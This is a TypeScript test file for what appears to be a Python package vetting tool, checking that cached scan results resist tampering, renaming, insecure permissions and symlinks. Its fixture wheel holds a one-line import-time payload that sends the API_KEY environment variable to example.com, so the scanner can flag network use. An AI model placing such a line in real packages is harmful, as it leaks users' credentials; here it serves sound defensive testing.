import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buildWheel } from '@safe-pip/testkit/build-wheel'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { bytesOf } from '../base/byte-source.ts'
import type { Examination } from '../vet/examination.ts'
import { examineArtifact } from '../vet/examine.ts'
import type { Examiner } from '../vet/examiner.ts'
import { startExaminePool, type PoolOptions } from './examine-pool.ts'
import { findEngineVersion } from './engine-version.ts'
import { openKeptFacts } from './kept-facts.ts'
import { loadCodeReader } from './load-code-reader.ts'

const WHEEL = buildWheel({
  name: 'demo',
  version: '1.0',
  files: {
    'demo/__init__.py': 'import os, urllib.request\nurllib.request.urlopen("http://example.com/" + os.environ["API_KEY"])\n',
  },
})

let home: string
const pools: Examiner[] = []
beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'safe-pip-facts-'))
})
afterEach(async () => {
  for (const pool of pools.splice(0)) await pool.close()
  rmSync(home, { recursive: true })
})

async function read(filename = WHEEL.filename): Promise<Examination> {
  return examineArtifact(bytesOf(WHEEL.bytes), filename, { codeReader: await loadCodeReader() })
}

function entries(): string[] {
  return readdirSync(home, { recursive: true, encoding: 'utf8' })
    .map((name) => join(home, name))
    .filter((path) => statSync(path).isFile())
}

function start(options: PoolOptions = {}): Examiner {
  const pool = startExaminePool({ home, workers: 1, ...options })
  pools.push(pool)
  return pool
}

/** A worker that cannot answer, so that only what was kept comes back. */
function deaf(): PoolOptions {
  const script = join(home, 'deaf.mjs')
  writeFileSync(script, `import { parentPort } from 'node:worker_threads'\nparentPort.on('message', () => process.exit(0))\n`)
  return { script: new URL(`file://${script}`) }
}

test('promise 7: what comes back is what was read', async () => {
  const examination = await read()
  expect(examination.source).toMatchObject({ state: 'known', value: { uses: [{ capability: 'network' }] } })
  openKeptFacts(home)?.keep(examination, WHEEL.filename)
  const kept = openKeptFacts(home)
  expect(kept?.isEmpty).toBe(false)
  expect(kept?.find(WHEEL.sha256, WHEEL.filename)).toEqual(examination)
})

describe('nothing comes back', () => {
  test('for another name or other bytes', async () => {
    const kept = openKeptFacts(home)
    kept?.keep(await read(), WHEEL.filename)
    expect(kept?.find(WHEEL.sha256, 'demo-2.0-py3-none-any.whl')).toBe(null)
    expect(kept?.find('0'.repeat(64), WHEEL.filename)).toBe(null)
  })
  test.each([
    ['a flipped byte', (bytes: Buffer) => bytes.fill((bytes.at(-3) ?? 0) ^ 1, bytes.length - 3, bytes.length - 2)],
    ['a cut file', (bytes: Buffer) => bytes.subarray(0, 40)],
    ['an empty file', () => Buffer.alloc(0)],
    ['a file of another kind', () => Buffer.from('{"verdict": "allow"}')],
  ])('for %s', async (_, damage) => {
    const kept = openKeptFacts(home)
    kept?.keep(await read(), WHEEL.filename)
    const [path = ''] = entries()
    writeFileSync(path, damage(readFileSync(path)))
    expect(kept?.find(WHEEL.sha256, WHEEL.filename)).toBe(null)
  })
  test('for an entry that was moved to the name of another artifact', async () => {
    const kept = openKeptFacts(home)
    const examination = await read()
    kept?.keep(examination, WHEEL.filename)
    const [own = ''] = entries()
    const hostile = '1'.repeat(64)
    kept?.keep({ ...examination, sha256: hostile }, WHEEL.filename)
    const [other = ''] = entries().filter((path) => path !== own)
    renameSync(own, other)
    expect(kept?.find(hostile, WHEEL.filename)).toBe(null)
  })
  test('by another engine', async () => {
    openKeptFacts(home)?.keep(await read(), WHEEL.filename)
    const engine = findEngineVersion() ?? ''
    expect(engine).toMatch(/^[0-9a-f]{32}$/)
    renameSync(join(home, 'facts', engine), join(home, 'facts', '0'.repeat(32)))
    expect(openKeptFacts(home)?.find(WHEEL.sha256, WHEEL.filename)).toBe(null)
  })
})

describe('nothing is kept', () => {
  test('of what this machine alone could not read', async () => {
    const examination = await read()
    if (examination.source.state !== 'known') throw new Error('not read')
    const problems = [{ id: 'nested-too-deeply', message: 'deep', file: 'source' }]
    const source = { ...examination.source, value: { ...examination.source.value, problems } }
    openKeptFacts(home)?.keep({ ...examination, source }, WHEEL.filename)
    expect(entries()).toEqual([])
  })
  test('where others may write', () => {
    openKeptFacts(home)
    chmodSync(join(home, 'facts'), 0o777)
    expect(openKeptFacts(home)).toBe(null)
  })
  test('behind a link', () => {
    const elsewhere = join(home, 'elsewhere')
    mkdirSync(elsewhere)
    symlinkSync(elsewhere, join(home, 'facts'))
    expect(openKeptFacts(home)).toBe(null)
    expect(readdirSync(elsewhere)).toEqual([])
  })
  test('of a file whose worker was lost', async () => {
    const path = join(home, WHEEL.filename)
    writeFileSync(path, WHEEL.bytes)
    const lost = await start(deaf()).examine(path, WHEEL.filename)
    expect(lost.archive).toMatchObject({ state: 'absent' })
    expect(entries().filter((entry) => entry.includes('/facts/'))).toEqual([])
  })
})

describe('the pool', () => {
  test('reads once; the folder and its files are for this user alone', async () => {
    const path = join(home, WHEEL.filename)
    writeFileSync(path, WHEEL.bytes)
    const first = await start().examine(path, WHEEL.filename)
    expect(await start(deaf()).examine(path, WHEEL.filename)).toEqual(first)
    expect(await start(deaf()).examine('hashed before', WHEEL.filename, { sha256: WHEEL.sha256 })).toEqual(first)
    expect(statSync(join(home, 'facts')).mode & 0o777).toBe(0o700)
    const kept = entries().filter((entry) => entry.includes('/facts/'))
    expect(kept.map((entry) => statSync(entry).mode & 0o777)).toEqual([0o600])
  })
  test('reads a file of the same name again when its bytes are others', async () => {
    const path = join(home, WHEEL.filename)
    writeFileSync(path, WHEEL.bytes)
    await start().examine(path, WHEEL.filename)
    const other = buildWheel({ name: 'demo', version: '1.0', files: { 'demo/__init__.py': 'x = 1\n' } })
    writeFileSync(path, other.bytes)
    expect((await start().examine(path, WHEEL.filename)).sha256).toBe(other.sha256)
  })
})
